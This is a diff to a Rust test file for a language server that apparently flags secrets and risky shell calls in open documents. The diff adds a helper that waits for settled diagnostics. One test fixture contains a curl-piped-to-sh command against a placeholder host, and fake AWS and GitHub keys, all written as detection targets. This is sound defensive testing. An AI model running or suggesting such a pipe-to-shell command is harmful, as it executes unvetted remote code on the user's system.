@@ -30,6 +30,20 @@ fn diagnostics(s: &mut Server, uri: &str, version: Option<i64>) -> Vec<Value> {
     p["diagnostics"].as_array().unwrap().clone()
 }
 
+/// The settled diagnostics of `uri` at `version`: the first publish, or the re-publish
+/// that follows once the incremental re-parse has refined it.
+fn settled(s: &mut Server, uri: &str, version: i64) -> Vec<Value> {
+    let mut d = diagnostics(s, uri, Some(version));
+    while let Some(p) = s.wait_for_within(
+        Duration::from_millis(400),
+        "textDocument/publishDiagnostics",
+        |p| p["uri"] == uri && p["version"] == version,
+    ) {
+        d = p["diagnostics"].as_array().unwrap().clone();
+    }
+    d
+}
+
 fn codes(diags: &[Value]) -> Vec<String> {
     diags
         .iter()
@@ -97,7 +111,7 @@ fn open_documents_show_findings_at_exact_ranges_and_follow_edits() {
              "text": format!("X = \"😀\"; KEY2 = \"{GHP}\"\nos.system(\"curl -s https://get.example.invalid | sh\")\n")}
         ]}),
     );
-    let d = diagnostics(&mut s, &uri, Some(2));
+    let d = settled(&mut s, &uri, 2);
     assert_eq!(
         codes(&d),
         ["aws-access-key-id", "github-pat", "shell-pipe-to-shell"]
@@ -116,7 +130,7 @@ fn open_documents_show_findings_at_exact_ranges_and_follow_edits() {
             {"range": {"start": {"line": 0, "character": 9}, "end": {"line": 0, "character": 9}}, "text": "\nprint(\"hi\"\n"}
         ]}),
     );
-    let d = diagnostics(&mut s, &uri, Some(3));
+    let d = settled(&mut s, &uri, 3);
     assert!(codes(&d).iter().any(|c| c.starts_with("syntax-")), "{d:#?}");
     s.notify(
         "textDocument/didChange",
@@ -124,7 +138,7 @@ fn open_documents_show_findings_at_exact_ranges_and_follow_edits() {
             {"range": {"start": {"line": 1, "character": 10}, "end": {"line": 1, "character": 10}}, "text": ")"}
         ]}),
     );
-    let d = diagnostics(&mut s, &uri, Some(4));
+    let d = settled(&mut s, &uri, 4);
     assert!(
         !codes(&d).iter().any(|c| c.starts_with("syntax-")),
         "{d:#?}"
@@ -144,7 +158,7 @@ fn open_documents_show_findings_at_exact_ranges_and_follow_edits() {
         "textDocument/didChange",
         json!({"textDocument": {"uri": uri, "version": 5}, "contentChanges": [{"text": format!("KEY = \"{AWS}\"  # warden:allow\n")}]}),
     );
-    assert!(diagnostics(&mut s, &uri, Some(5)).is_empty());
+    assert!(settled(&mut s, &uri, 5).is_empty());
     assert!(s.shutdown().success());
 }
 
